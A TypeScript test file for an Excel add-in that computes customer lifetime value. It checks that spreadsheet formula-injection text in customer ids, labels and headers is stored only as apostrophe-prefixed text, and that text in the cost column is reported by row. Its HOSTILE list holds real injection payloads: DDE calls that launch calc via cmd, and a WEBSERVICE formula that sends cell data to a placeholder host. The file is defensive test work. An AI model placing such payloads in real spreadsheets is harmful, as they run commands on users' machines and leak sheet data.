/**
 * No cell the pane writes becomes a formula unless the add-in wrote it as one (DESIGN §3, "Text the
 * add-in writes into cells goes through one writer"). Hostile text (formula starts = + - @, tab and
 * carriage return, the full-width ＝, DDE payloads; OWASP "CSV injection") is fed through every column
 * the pane maps (customer, channel, segment, and the header texts) into every sheet, in live and in
 * values-only mode, and rendered through the Office.js renderer against office-addin-mock. What reaches
 * Excel is then checked: every cell that carries user text is text (Excel's apostrophe prefix where it
 * could start a formula), and no formula written contains user text. A cost column is numeric: text in
 * it is a problem the data check reports by row, and the build is refused until it is fixed.
 */
import { afterEach, describe, expect, it, vi } from "vitest";
import { createExcelMock } from "./excelMock";
import { bgnbd } from "../../src/core/models/bgnbd";
import { simulateTransactions } from "../../src/core/simulate/transactions";
import { buildDailyLedger } from "../../src/core/data/transactions";
import { parseTransactions, type DataSource } from "../../src/taskpane/dataset";
import type { ColumnMapping } from "../../src/taskpane/columns";
import { buildSheet, fitModelCheck, modelData } from "../../src/taskpane/builders";
import { fitModelsSync } from "../../src/taskpane/builders/modelData";
import { DEFAULT_OPTIONS, SHEET_KINDS, type BuildInput, type BuildOptions } from "../../src/taskpane/builders/types";
import { renderPlan } from "../../src/taskpane/render";
import { MAX_BREAKDOWN_GROUPS } from "../../src/taskpane/builders/dashboard";

afterEach(() => {
  vi.unstubAllGlobals();
});

/** Text that a spreadsheet could run: formula starts, a DDE command, whitespace and full-width forms. */
const HOSTILE = [
  `=WEBSERVICE("https://x.example/?"&Data!A2)`,
  `+HYPERLINK("https://x.example","click")`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=2+2`,
  `＝HYPERLINK("https://x.example")`,
  `=cmd|' /C calc'!A0`,
  `'=quoted`,
] as const;

/** Could Excel read this cell text as a formula? (The leading apostrophe is Excel's text prefix.) */
const FORMULA_LIKE = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

const DAY0 = 45292; // 2024-01-01

/**
 * 400 customers over 78 weeks drawn from the BG/NBD with the CDNOW estimates (FHL 2005) so the fits
 * converge; ids, channels and segments are all hostile text, and so are the headers.
 */
function hostileRows(): { rows: unknown[][]; headers: string[] } {
  const log = simulateTransactions(
    { model: bgnbd, params: { r: 0.243, alpha: 4.414, a: 0.793, b: 2.426 } },
    { p: 6.25, q: 3.74, gamma: 15.44 },
    400,
    DAY0,
    DAY0 + 7 * 78,
    99,
    { acquisitionDays: 7 * 12 },
  );
  const headers = [`=Customer()`, "Order date", "Amount", `+Channel`, `@Segment`, "Cost"];
  const rows: unknown[][] = [];
  for (let i = 0; i < log.length; i++) {
    const c = log.customer[i];
    const id = `${HOSTILE[c % HOSTILE.length]} #${c}`;
    const channel = HOSTILE[(c * 7) % HOSTILE.length];
    const segment = HOSTILE[(c * 5 + 1) % HOSTILE.length];
    rows.push([id, log.day[i], Math.round(100 * log.amount[i]) / 100, channel, segment, 2.5]);
  }
  return { rows, headers };
}

const MAPPING: ColumnMapping = { customer: 0, date: 1, amount: 2, channel: 3, segment: 4, cost: 5 };

function hostileInput(): BuildInput {
  const { rows, headers } = hostileRows();
  const source: DataSource = { sheet: "Data", headerRow: 1, firstRow: 2, lastRow: rows.length + 1, firstColumn: 1, headers };
  const { transactions, report } = parseTransactions(rows, MAPPING, headers, 2);
  expect(report.errorCount).toBe(0);
  const ledger = buildDailyLedger({ customer: transactions.customer, day: transactions.date, amount: transactions.amount });
  return { source, mapping: MAPPING, transactions, ledger };
}

interface Written {
  sheet: string;
  prop: "values" | "formulas";
  text: string;
}

/** Every text cell the renderer hands to Office.js for all four sheets. */
async function renderAll(options: BuildOptions): Promise<Written[]> {
  const input = hostileInput();
  const data = modelData(input, options);
  const fits = fitModelsSync(data, options);
  const checks = await fitModelCheck(input, options);
  const mock = createExcelMock({ sheets: ["Data"] });
  for (const kind of SHEET_KINDS) {
    const plan = buildSheet(kind, input, options, { data, fits, checks });
    await renderPlan(mock.context, plan, { sheetName: plan.name });
  }
  const out: Written[] = [];
  for (const sheet of mock.sheetNames().filter((s) => s !== "Data")) {
    for (const prop of ["values", "formulas"] as const) {
      for (const r of mock.written(sheet, prop)) {
        for (const row of r.mock[prop] as unknown[][]) for (const v of row) if (typeof v === "string") out.push({ sheet, prop, text: v });
      }
    }
  }
  return out;
}

describe.each([
  ["live formulas", { ...DEFAULT_OPTIONS, cac: 20 }],
  ["values only", { ...DEFAULT_OPTIONS, valuesOnly: true, cac: 20 }],
])("hostile customer ids, channels, segments and headers, %s", (_mode, options) => {
  it("reach the sheets only as text: apostrophe-prefixed where they could start a formula, never inside a formula", async () => {
    const written = await renderAll(options as BuildOptions);
    expect(new Set(written.map((w) => w.sheet)).size).toBe(SHEET_KINDS.length);
    // Labels and ids are read trimmed (a leading tab or return is invisible whitespace), so compare trimmed.
    const stored = HOSTILE.map((h) => h.trim());
    const carriesUserText = (t: string) => stored.some((h) => t.includes(h.replace(/^'/, "")));
    // 1. No cell that Excel could read as a formula carries user text (formulas reach data by reference).
    const dangerous = written.filter((w) => FORMULA_LIKE.test(w.text) && carriesUserText(w.text));
    expect(dangerous).toEqual([]);
    // 2. The user's text did arrive, unchanged behind the prefix: customer ids (RFM/model tables in values
    //    mode), channel and segment labels of the dashboard breakdowns (the live-mode hole this closes).
    const texts = new Set(written.map((w) => w.text));
    expect(stored.filter((h) => !texts.has(`'${h}`))).toEqual([]);
    const labels = written.filter((w) => w.sheet === "CLV Dashboard" && stored.some((h) => w.text === `'${h}`));
    expect(labels.length).toBeGreaterThanOrEqual(MAX_BREAKDOWN_GROUPS);
    expect(labels.every((w) => w.prop === "values")).toBe(true);
  });
});

describe("a cost column with text", () => {
  it("is a problem reported by row, so the pane does not build (nothing reaches a cell)", () => {
    const { rows, headers } = hostileRows();
    rows[3][5] = HOSTILE[0];
    rows[8][5] = HOSTILE[7];
    const { report } = parseTransactions(rows, MAPPING, headers, 2);
    expect(report.errorCount).toBe(2);
    expect(report.problems.map((p) => p.row)).toEqual([5, 10]);
  });
});
